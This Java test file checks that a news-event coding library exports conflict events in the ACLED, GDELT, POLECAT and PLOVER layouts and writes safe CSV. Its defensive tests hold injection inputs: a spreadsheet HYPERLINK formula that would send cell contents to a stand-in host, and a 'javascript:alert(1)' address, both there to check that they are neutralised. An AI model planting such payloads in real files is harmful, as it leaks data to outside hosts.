package org.daybook.core.record;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.daybook.core.event.Event;
import org.junit.jupiter.api.Test;

/// The columns of others' layouts, one by one, against the lists that they publish.
class LayoutsTest {
    private static final Instant NIGHT = Instant.parse("2023-09-19T21:00:00Z");
    private static final StoryRecord STORY = StoryRecord.of(
            List.of(Wire.shelling("a", "two", 2, Wire.NOON), Wire.shelling("b", "twenty-five", 25, NIGHT)));

    /// ACLED Codebook 2024, table 1.
    private static final String ACLED = "event_id_cnty event_date year time_precision disorder_type event_type"
            + " sub_event_type actor1 assoc_actor_1 inter1 actor2 assoc_actor_2 inter2 interaction civilian_targeting iso"
            + " region country admin1 admin2 admin3 location latitude longitude geo_precision source source_scale notes"
            + " fatalities tags timestamp";

    /// GDELT Event Codebook V2.0.
    private static final String GDELT = "GlobalEventID Day MonthYear Year FractionDate Actor1Code Actor1Name"
            + " Actor1CountryCode Actor1KnownGroupCode Actor1EthnicCode Actor1Religion1Code Actor1Religion2Code"
            + " Actor1Type1Code Actor1Type2Code Actor1Type3Code Actor2Code Actor2Name Actor2CountryCode"
            + " Actor2KnownGroupCode Actor2EthnicCode Actor2Religion1Code Actor2Religion2Code Actor2Type1Code"
            + " Actor2Type2Code Actor2Type3Code IsRootEvent EventCode EventBaseCode EventRootCode QuadClass GoldsteinScale"
            + " NumMentions NumSources NumArticles AvgTone Actor1Geo_Type Actor1Geo_Fullname Actor1Geo_CountryCode"
            + " Actor1Geo_ADM1Code Actor1Geo_ADM2Code Actor1Geo_Lat Actor1Geo_Long Actor1Geo_FeatureID Actor2Geo_Type"
            + " Actor2Geo_Fullname Actor2Geo_CountryCode Actor2Geo_ADM1Code Actor2Geo_ADM2Code Actor2Geo_Lat"
            + " Actor2Geo_Long Actor2Geo_FeatureID ActionGeo_Type ActionGeo_Fullname ActionGeo_CountryCode"
            + " ActionGeo_ADM1Code ActionGeo_ADM2Code ActionGeo_Lat ActionGeo_Long ActionGeo_FeatureID DATEADDED SOURCEURL";

    /// The header of POLECAT's weekly files.
    private static final String POLECAT = "Event ID|Event Date|Event Type|Event Mode|Intensity|Quad Code|Contexts|Actor"
            + " Name|Actor Country|Actor COW|Primary Actor Sector|Actor Sectors|Actor Title|Actor Name Raw|Wikipedia Actor"
            + " ID|Recipient Name|Recipient Country|Recipient COW|Primary Recipient Sector|Recipient Sectors|Recipient"
            + " Title|Recipient Name Raw|Wikipedia Recipient ID|Placename|City|District|Province|Country|Latitude"
            + "|Longitude|GeoNames ID|Raw Placename|Feature Type|Source|Publication Date|Story People|Story Organizations"
            + "|Story Locations|Language|Version";

    @Test
    void theColumnsAreThoseThatThePublishedLayoutsHave() {
        assertThat(Acled.EVENTS.names()).containsExactly(ACLED.split(" ")).hasSize(31);
        assertThat(Gdelt.EVENTS.names()).containsExactly(GDELT.split(" ")).hasSize(61);
        assertThat(Polecat.EVENTS.names()).containsExactly(POLECAT.split("\\|")).hasSize(40);
    }

    /// The columns that are filled.
    private static <T> Map<String, String> filled(Layout<T> layout, T entry) {
        Map<String, String> filled = new LinkedHashMap<>();
        List<Cell> row = layout.row(entry);
        assertThat(row).hasSameSizeAs(layout.columns());
        for (int i = 0; i < row.size(); i++) {
            if (!row.get(i).written().isEmpty()) {
                filled.put(layout.names().get(i), row.get(i).written());
            }
        }
        return filled;
    }

    @Test
    void anAttackInAcledsColumns() {
        AcledEvent event = Acled.event(STORY.linkedEvents().getFirst()).orElseThrow();
        Map<String, String> row = filled(Acled.EVENTS, event);
        String notes = String.valueOf(row.remove("notes"));
        assertThat(notes)
                .contains("“Azerbaijan's army shelled Stepanakert")
                .contains("[article a, 2-")
                .contains("https://b.example/news?a=1,2]");
        assertThat(row)
                .containsExactlyInAnyOrderEntriesOf(Map.ofEntries(
                        Map.entry("event_id_cnty", "AZE" + event.event().number()),
                        Map.entry("event_date", "2023-09-19"),
                        Map.entry("year", "2023"),
                        Map.entry("time_precision", "1"),
                        Map.entry("disorder_type", "Political violence"),
                        Map.entry("event_type", "Explosions/Remote violence"),
                        Map.entry("sub_event_type", "Shelling/artillery/missile attack"),
                        Map.entry("actor1", "Military Forces of Azerbaijan"),
                        Map.entry("inter1", "State forces"),
                        Map.entry("actor2", "Civilians (Azerbaijan)"),
                        Map.entry("inter2", "Civilians"),
                        Map.entry("interaction", "State forces-Civilians"),
                        Map.entry("civilian_targeting", "Civilians targeted"),
                        Map.entry("iso", "031"),
                        Map.entry("country", "Azerbaijan"),
                        Map.entry("location", "Stepanakert"),
                        Map.entry("latitude", "39.8153"),
                        Map.entry("longitude", "46.7519"),
                        Map.entry("geo_precision", "1"),
                        Map.entry("source", "The Quillmark Ledger"),
                        Map.entry("fatalities", "2"),
                        Map.entry("timestamp", "1695124800")));
    }

    @Test
    void acledHasNoRowWithoutADayAPlaceOrATypeOfItsOwn() {
        Wire.Draft nowhere = new Wire.Draft("a", "Gunmen shelled a town with mortars.");
        nowhere.event(Event.Type.ASSAULT, Optional.empty(), Optional.empty(), Event.Status.HAPPENED, "shelled a town");
        Wire.Draft talks = new Wire.Draft("b", "Envoys met in Yevlakh on Thursday.");
        talks.place("Yevlakh", "Yevlakh", "AZE", "city", 40.6, 47.15).day("on Thursday", Wire.DAY);
        talks.event(Event.Type.CONSULT, Optional.empty(), Optional.empty(), Event.Status.HAPPENED, "Envoys met");
        for (Report report : List.of(nowhere.report(), talks.report())) {
            LinkedEvent event = StoryRecord.of(List.of(report)).linkedEvents().getFirst();
            assertThat(Acled.event(event)).as(report.id()).isEmpty();
            assertThat(Gdelt.covers(event)).as(report.id()).isTrue();
        }
    }

    @Test
    void whatWasSeenAtNoKnownTimeIsNotOf1970() {
        StoryRecord story = StoryRecord.of(List.of(Wire.shelling("a", "two", 2, Instant.EPOCH)));
        LinkedEvent event = story.linkedEvents().getFirst();
        assertThat(filled(Gdelt.EVENTS, event)).doesNotContainKey("DATEADDED");
        assertThat(filled(Acled.EVENTS, Acled.event(event).orElseThrow())).doesNotContainKey("timestamp");
        assertThat(filled(Tables.EVENTS, event.first())).doesNotContainKey("seen");
    }

    @Test
    void anUndatedTellingDoesNotHideWhenALaterOneWasSeen() {
        EventEntry undated = StoryRecord.of(List.of(Wire.shelling("a", "two", 2, Instant.EPOCH)))
                .events()
                .getFirst();
        EventEntry dated = StoryRecord.of(List.of(Wire.shelling("b", "two", 2, Wire.NOON)))
                .events()
                .getFirst();
        LinkedEvent event = new LinkedEvent(List.of(undated, dated));
        assertThat(filled(Gdelt.EVENTS, event)).containsEntry("DATEADDED", "20230919120000");
        assertThat(filled(Acled.EVENTS, Acled.event(event).orElseThrow())).containsEntry("timestamp", "1695124800");
    }

    @Test
    void anArticleWithoutPublisherOrAddressOfTheWebHasNeither() {
        for (String address : List.of("file:///home/a/page.html", "javascript:alert(1)", "https://", "page.html")) {
            Wire.Draft draft = new Wire.Draft("a", "A mortar hit Stepanakert on Tuesday.")
                    .byNobody()
                    .address(address)
                    .place("Stepanakert", "Stepanakert", "AZE", "city", 39.8, 46.7)
                    .day("on Tuesday", Wire.DAY);
            draft.event(
                    Event.Type.ASSAULT,
                    Optional.empty(),
                    Optional.empty(),
                    Event.Status.HAPPENED,
                    "A mortar hit Stepanakert");
            LinkedEvent event =
                    StoryRecord.of(List.of(draft.report())).linkedEvents().getFirst();
            assertThat(filled(Gdelt.EVENTS, event)).containsEntry("SOURCEURL", "article a");
            assertThat(filled(Tables.EVENTS, event.first())).as(address).doesNotContainKey("url");
            Map<String, String> acled = filled(Acled.EVENTS, Acled.event(event).orElseThrow());
            assertThat(acled).doesNotContainKey("source");
            assertThat(acled.get("notes")).doesNotContain(address);
        }
    }

    @Test
    void fatalitiesThatNoSourceGivesAreNotZero() {
        Wire.Draft draft = new Wire.Draft("a", "A mortar hit Stepanakert on Tuesday.");
        draft.place("Stepanakert", "Stepanakert", "AZE", "city", 39.8, 46.7).day("on Tuesday", Wire.DAY);
        draft.event(
                Event.Type.ASSAULT,
                Optional.empty(),
                Optional.empty(),
                Event.Status.HAPPENED,
                "A mortar hit Stepanakert");
        AcledEvent event = Acled.event(
                        StoryRecord.of(List.of(draft.report())).linkedEvents().getFirst())
                .orElseThrow();
        assertThat(filled(Acled.EVENTS, event)).doesNotContainKeys("fatalities", "actor1", "interaction");
    }

    @Test
    void anAttackInGdeltsColumns() {
        LinkedEvent event = STORY.linkedEvents().getFirst();
        assertThat(filled(Gdelt.EVENTS, event))
                .containsExactlyInAnyOrderEntriesOf(Map.ofEntries(
                        Map.entry("GlobalEventID", String.valueOf(event.number())),
                        Map.entry("Day", "20230919"),
                        Map.entry("MonthYear", "202309"),
                        Map.entry("Year", "2023"),
                        Map.entry("FractionDate", "2023.7918"),
                        Map.entry("Actor1Code", "AZEMIL"),
                        Map.entry("Actor1Name", "AZERBAIJANI ARMY"),
                        Map.entry("Actor1CountryCode", "AZE"),
                        Map.entry("Actor1Type1Code", "MIL"),
                        Map.entry("Actor2Code", "CVL"),
                        Map.entry("Actor2Name", "CIVILIANS"),
                        Map.entry("Actor2Type1Code", "CVL"),
                        Map.entry("IsRootEvent", "1"),
                        Map.entry("EventCode", "180"),
                        Map.entry("EventBaseCode", "180"),
                        Map.entry("EventRootCode", "18"),
                        Map.entry("QuadClass", "4"),
                        Map.entry("NumMentions", "2"),
                        Map.entry("NumSources", "1"),
                        Map.entry("NumArticles", "2"),
                        Map.entry("ActionGeo_Type", "4"),
                        Map.entry("ActionGeo_Fullname", "Stepanakert, Azerbaijan"),
                        Map.entry("ActionGeo_CountryCode", "AJ"),
                        Map.entry("ActionGeo_Lat", "39.8153"),
                        Map.entry("ActionGeo_Long", "46.7519"),
                        Map.entry("DATEADDED", "20230919120000"),
                        Map.entry("SOURCEURL", "https://a.example/news?a=1,2")));
        assertThat(event.number()).isBetween(1L, 1L << 52);
    }

    @Test
    void anAttackInPolecatsColumns() {
        EventEntry event = STORY.events().getLast();
        assertThat(filled(Polecat.EVENTS, event))
                .containsExactlyInAnyOrderEntriesOf(Map.ofEntries(
                        Map.entry("Event ID", "20230919-" + event.id() + "_ASSAULT"),
                        Map.entry("Event Date", "2023-09-19"),
                        Map.entry("Event Type", "ASSAULT"),
                        Map.entry("Quad Code", "MATERIAL CONFLICT"),
                        Map.entry("Actor Name", "Azerbaijani Army"),
                        Map.entry("Actor Country", "AZE"),
                        Map.entry("Primary Actor Sector", "MIL"),
                        Map.entry("Actor Sectors", "MIL"),
                        Map.entry("Actor Name Raw", "Azerbaijan's army"),
                        Map.entry("Recipient Name", "civilians"),
                        Map.entry("Primary Recipient Sector", "CVL"),
                        Map.entry("Recipient Sectors", "CVL"),
                        Map.entry("Recipient Name Raw", "twenty-five civilians"),
                        Map.entry("Placename", "Stepanakert"),
                        Map.entry("City", "Stepanakert"),
                        Map.entry("Country", "AZE"),
                        Map.entry("Latitude", "39.8153"),
                        Map.entry("Longitude", "46.7519"),
                        Map.entry("GeoNames ID", "616530"),
                        Map.entry("Raw Placename", "Stepanakert"),
                        Map.entry("Source", "The Quillmark Ledger"),
                        Map.entry("Publication Date", "2023-09-19"),
                        Map.entry("Story Locations", "Stepanakert"),
                        Map.entry("Language", "en"),
                        Map.entry("Version", "daybook")));
    }

    @Test
    void aPloverRecordHasWhatTheManualRequiresAndLeadsBack() {
        EventEntry event = STORY.events().getLast();
        var line = Plover.line(event);
        assertThat(line.path("date").asText()).isEqualTo("2023-09-19");
        assertThat(line.path("source").path(0).path("code").asText()).isEqualTo("AZE");
        assertThat(line.path("event").path(0).asText()).isEqualTo("ASSAULT");
        assertThat(line.path("dead").asLong()).isEqualTo(25);
        assertThat(line.path("link").asText())
                .isEqualTo(STORY.events().getFirst().id());
        assertThat(line.path("event_loc").path("country code").asText()).isEqualTo("AZ");
        String text = event.report().reading().article().text();
        line.path("daybook").path("evidence").forEach(evidence -> {
            int begin = text.offsetByCodePoints(0, evidence.path("begin").asInt());
            int end = text.offsetByCodePoints(0, evidence.path("end").asInt());
            assertThat(text.substring(begin, end))
                    .isEqualTo(evidence.path("text").asText());
        });
        assertThat(line.path("daybook").path("evidence")).hasSize(8);
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedAndTabsCannotBe() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Layout<String> layout = new Layout<>(
                List.of(Column.word("one", "", value -> value), Column.text("none", "", value -> Optional.empty())));
        DelimitedText<String> csv = new DelimitedText<>(out, layout, DelimitedText.Delimiter.COMMA, true);
        csv.write("a \"b\", c\nd");
        csv.end();
        assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("one,none\n\"a \"\"b\"\", c\nd\",\n");
        out.reset();
        new DelimitedText<>(out, layout, DelimitedText.Delimiter.TAB, false).write("a\tb\nc");
        assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("a b c\t\n");
    }

    @Test
    void noTextIsAFormulaInASpreadsheet() throws IOException {
        Layout<String> layout = new Layout<>(
                List.of(Column.word("one", "", value -> value), Column.word("two", "", value -> "x" + value)));
        for (String begin : List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) {
            String formula = begin + "HYPERLINK(\"https://a.example/?\"&A1,\"x\")";
            for (DelimitedText.Delimiter delimiter : DelimitedText.Delimiter.values()) {
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                new DelimitedText<>(out, layout, delimiter, false).write(formula);
                assertThat(out.toString(StandardCharsets.UTF_8)).as(begin).matches("(?s)\"?'.*");
            }
        }
        Layout<Integer> numbers =
                new Layout<>(List.of(Column.whole("n", "", value -> java.util.OptionalLong.of(value))));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new DelimitedText<>(out, numbers, DelimitedText.Delimiter.COMMA, false).write(-4);
        assertThat(out.toString(StandardCharsets.UTF_8))
                .as("a number stays one")
                .isEqualTo("-4\n");
    }

    @Test
    void theMapIsAFeatureCollectionOfPointsWithLongitudeFirst() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        GeoJson map = new GeoJson(out);
        for (EventEntry event : STORY.events()) {
            map.write(event);
        }
        map.end();
        var read =
                Json.parse(out.toString(StandardCharsets.UTF_8), "map").made().orElseThrow();
        assertThat(read.path("type").asText()).isEqualTo("FeatureCollection");
        assertThat(read.path("features")).hasSize(2);
        read.path("features").forEach(feature -> {
            assertThat(feature.path("type").asText()).isEqualTo("Feature");
            assertThat(feature.path("geometry").path("type").asText()).isEqualTo("Point");
            assertThat(feature.path("geometry").path("coordinates").path(0).asDouble())
                    .isEqualTo(46.7519);
            assertThat(feature.path("geometry").path("coordinates").path(1).asDouble())
                    .isEqualTo(39.8153);
            assertThat(feature.path("properties").path("quote").asText()).startsWith("Azerbaijan's army");
        });
    }
}
